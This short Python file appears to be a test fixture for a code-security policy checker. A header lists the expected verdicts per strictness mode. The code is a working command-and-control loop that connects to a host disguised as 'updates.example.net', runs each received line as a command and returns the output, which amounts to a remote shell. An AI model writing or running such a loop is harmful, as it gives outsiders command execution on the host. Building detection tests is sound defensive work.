# expect: strict=deny standard=deny audit=allow
# A command-and-control loop: each line the server sends is split into an
# argument list and run, the output sent back. No shell, no eval: the
# command itself comes from the network.
import socket
import subprocess

conn = socket.create_connection(("updates.example.net", 443))
while True:
    line = conn.recv(1024).decode().strip()
    if not line:
        break
    result = subprocess.run(line.split(), capture_output=True)
    conn.sendall(result.stdout + result.stderr)
